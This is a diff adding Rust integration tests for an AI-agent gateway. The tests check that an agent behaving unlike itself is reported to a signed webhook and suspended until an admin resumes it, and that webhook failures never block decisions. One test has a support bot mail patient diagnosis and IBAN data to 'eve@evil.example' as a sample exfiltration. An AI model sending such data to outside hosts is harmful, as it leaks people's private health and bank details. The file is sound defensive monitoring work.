@@ -1,0 +1,277 @@
+//! Alerts: an agent that behaves unlike itself is reported to a webhook,
+//! signed, with the evidence, and contained; a webhook that fails never
+//! holds decisions up.
+
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use axum::body::Bytes;
+use axum::http::{HeaderMap, StatusCode};
+use hmac::{Hmac, Mac};
+use serde_json::{Value, json};
+use sha2::Sha256;
+use tokio::sync::{Mutex, mpsc};
+
+use crate::harness::{Backend, TestGateway};
+
+/// A webhook receiver on loopback: answers each request with the next
+/// status of `statuses` (then 200), after `gate` opens when given.
+struct Receiver {
+    url: String,
+    hits: mpsc::UnboundedReceiver<(HeaderMap, Value, Instant)>,
+    gate: Arc<tokio::sync::Semaphore>,
+}
+
+async fn receiver(statuses: Vec<u16>, gated: bool) -> Receiver {
+    let (tx, hits) = mpsc::unbounded_channel();
+    let statuses = Arc::new(Mutex::new(statuses.into_iter()));
+    let gate = Arc::new(tokio::sync::Semaphore::new(if gated { 0 } else { 1_000 }));
+    let handler_gate = Arc::clone(&gate);
+    let app = axum::Router::new().route(
+        "/hook",
+        axum::routing::post(move |headers: HeaderMap, body: Bytes| {
+            let tx = tx.clone();
+            let statuses = Arc::clone(&statuses);
+            let gate = Arc::clone(&handler_gate);
+            async move {
+                let _permit = gate.acquire().await;
+                let _ = tx.send((
+                    headers,
+                    serde_json::from_slice(&body).unwrap(),
+                    Instant::now(),
+                ));
+                let status = statuses.lock().await.next().unwrap_or(200);
+                StatusCode::from_u16(status).unwrap()
+            }
+        }),
+    );
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let url = format!("http://{}/hook", listener.local_addr().unwrap());
+    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
+    Receiver { url, hits, gate }
+}
+
+fn rules(url: &str) -> String {
+    format!(
+        r#"
+[[alerts.rules]]
+name = "new-class"
+when = "new_class"
+warm_up = 10
+severity = "high"
+action = "suspend"
+
+[[alerts.rules]]
+name = "new-destination"
+when = "new_destination"
+warm_up = 10
+
+[[alerts.webhooks]]
+name = "soc"
+url = "{url}"
+secret_file = "webhook.secret"
+"#
+    )
+}
+
+fn mail(to: &str, body: &str) -> Value {
+    json!({"server": "mail", "tool": "send", "args": {"to": to, "subject": "case", "body": body}, "session": "case-1"})
+}
+
+fn check_signature(headers: &HeaderMap, body: &Value) {
+    let sig = headers["x-warden-signature"].to_str().unwrap();
+    let (t, v1) = sig.split_once(",v1=").unwrap();
+    let t = t.strip_prefix("t=").unwrap();
+    let mut mac = Hmac::<Sha256>::new_from_slice(b"s3cret-for-tests").unwrap();
+    mac.update(format!("{t}.{}", serde_json::to_string(body).unwrap()).as_bytes());
+    assert_eq!(
+        v1,
+        hex::encode(mac.finalize().into_bytes()),
+        "signature over `<t>.<body>`"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_agent_unlike_itself_is_reported_signed_and_suspended_until_resumed() {
+    let mut hook = receiver(vec![], false).await;
+    let url = hook.url.clone();
+    let gw = TestGateway::start(Backend::Sqlite, move |t| t + &rules(&url)).await;
+    std::fs::write(gw.config_dir().join("webhook.secret"), "s3cret-for-tests\n").unwrap();
+    let bot = gw.token("support-bot");
+    // Its usual work: customer contact details to colleagues.
+    for n in 0..12 {
+        let (_, d) = gw
+            .decide(
+                &bot,
+                mail(
+                    "colleague@example.com",
+                    &format!("Jane Roe (jane.roe@example.net) called, case {n}"),
+                ),
+            )
+            .await;
+        assert_eq!(d["decision"], "allow", "{d}");
+    }
+    assert!(hook.hits.try_recv().is_err(), "no alert during normal work");
+
+    // Then health and bank data to a host it never wrote to.
+    let (_, exfil) = gw
+        .decide(
+            &bot,
+            mail(
+                "eve@evil.example",
+                "Patient diagnosis ICD-10 E11.9; IBAN DE89370400440532013000",
+            ),
+        )
+        .await;
+    let decided = Instant::now();
+    let mut alerts = Vec::new();
+    while alerts.len() < 2 {
+        let (headers, body, at) = tokio::time::timeout(Duration::from_secs(5), hook.hits.recv())
+            .await
+            .expect("the alerts reach the webhook")
+            .unwrap();
+        assert!(
+            at.duration_since(decided) < Duration::from_secs(1),
+            "delivered within 1 s"
+        );
+        check_signature(&headers, &body);
+        alerts.push(body["alert"].clone());
+    }
+    alerts.sort_by_key(|a| a["rule"].as_str().unwrap().to_owned());
+    let class = &alerts[0];
+    assert_eq!(class["rule"], "new-class");
+    assert_eq!(class["agent"], "support-bot");
+    assert_eq!(class["action"], "suspend");
+    assert!(
+        class["observed"].as_str().unwrap().contains("health"),
+        "{class}"
+    );
+    assert_eq!(class["evidence"][0]["decision_id"], exfil["id"]);
+    let host = &alerts[1];
+    assert_eq!(host["rule"], "new-destination");
+    assert_eq!(host["observed"], "evil.example");
+    // The evidence is the record in the log.
+    let index = host["evidence"][0]["audit_index"].as_u64().unwrap();
+    let (_, entries) = gw
+        .admin_get(
+            &gw.admin_token,
+            &format!("/v1/audit/entries?from={index}&to={}", index + 1),
+        )
+        .await;
+    assert_eq!(
+        entries["entries"][0]["record"]["destinations"],
+        json!(["evil.example"])
+    );
+
+    // Contained: its next action is denied, naming the alert.
+    let (_, next) = gw
+        .decide(&bot, mail("colleague@example.com", "hello"))
+        .await;
+    assert_eq!(next["decision"], "deny", "{next}");
+    assert!(
+        next["reasons"][0]
+            .as_str()
+            .unwrap()
+            .contains("alert `new-class`"),
+        "{next}"
+    );
+    let (_, listed) = gw.admin_get(&gw.admin_token, "/v1/alerts").await;
+    assert_eq!(listed["alerts"].as_array().unwrap().len(), 2, "{listed}");
+    // Resumed, it acts again.
+    let (status, _) = gw
+        .admin_post(&gw.admin_token, "/v1/agents/support-bot/resume", json!({}))
+        .await;
+    assert_eq!(status, 200);
+    let (_, again) = gw
+        .decide(&bot, mail("colleague@example.com", "hello"))
+        .await;
+    assert_eq!(again["decision"], "allow", "{again}");
+    gw.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_failing_webhook_never_holds_decisions_and_alerts_are_retried_or_dead_lettered() {
+    // Down (500 twice), then up: delivered on the third attempt. The
+    // receiver is held shut while decisions go on.
+    let mut hook = receiver(vec![500, 500], true).await;
+    let url = hook.url.clone();
+    let gw = TestGateway::start(Backend::Sqlite, move |t| {
+        t + &format!(
+            r#"
+[[alerts.rules]]
+name = "deny-burst"
+when = "denials"
+threshold = 3
+window_secs = 60
+
+[[alerts.webhooks]]
+name = "flaky"
+url = "{url}"
+format = "slack"
+"#
+        )
+    })
+    .await;
+    let bot = gw.token("invoice-bot");
+    let denied =
+        json!({"server": "crm", "tool": "delete_customer", "args": {"id": "c-1"}, "session": "s"});
+    for _ in 0..5 {
+        assert_eq!(gw.decide(&bot, denied.clone()).await.1["decision"], "deny");
+    }
+    // The webhook has not answered anything yet, and decisions go on.
+    for n in 0..20 {
+        let read = json!({"server": "accounting", "tool": "read_invoice", "args": {"invoice_id": format!("INV-{n}")}, "session": "s"});
+        assert_eq!(gw.decide(&bot, read).await.1["decision"], "allow");
+    }
+    hook.gate.add_permits(1_000);
+    let mut attempts = Vec::new();
+    while attempts.len() < 3 {
+        let (headers, body, _) = tokio::time::timeout(Duration::from_secs(10), hook.hits.recv())
+            .await
+            .expect("retried")
+            .unwrap();
+        assert!(
+            headers.get("x-warden-signature").is_none(),
+            "no secret: unsigned"
+        );
+        attempts.push(body);
+    }
+    assert!(
+        attempts[2]["text"].as_str().unwrap().contains("deny-burst"),
+        "{}",
+        attempts[2]
+    );
+    let (_, listed) = gw.admin_get(&gw.admin_token, "/v1/alerts").await;
+    assert!(
+        listed["dead_letters"].as_array().unwrap().is_empty(),
+        "{listed}"
+    );
+    gw.stop().await;
+
+    // A webhook that refuses (400): no retry, a dead letter.
+    let hook = receiver(vec![400], false).await;
+    let url = hook.url.clone();
+    let gw = TestGateway::start(Backend::Sqlite, move |t| {
+        t + &format!(
+            "[[alerts.rules]]\nname = \"deny-burst\"\nwhen = \"denials\"\nthreshold = 1\n\n[[alerts.webhooks]]\nname = \"refuses\"\nurl = \"{url}\"\nformat = \"teams\"\n"
+        )
+    })
+    .await;
+    let bot = gw.token("invoice-bot");
+    for _ in 0..3 {
+        gw.decide(&bot, denied.clone()).await;
+    }
+    let mut dead = Value::Null;
+    for _ in 0..100 {
+        let (_, listed) = gw.admin_get(&gw.admin_token, "/v1/alerts").await;
+        if !listed["dead_letters"].as_array().unwrap().is_empty() {
+            dead = listed["dead_letters"][0].clone();
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    assert_eq!(dead["webhook"], "refuses", "{dead}");
+    assert_eq!(dead["error"], "answered 400 Bad Request");
+    assert_eq!(dead["alert"]["rule"], "deny-burst");
+    gw.stop().await;
+}
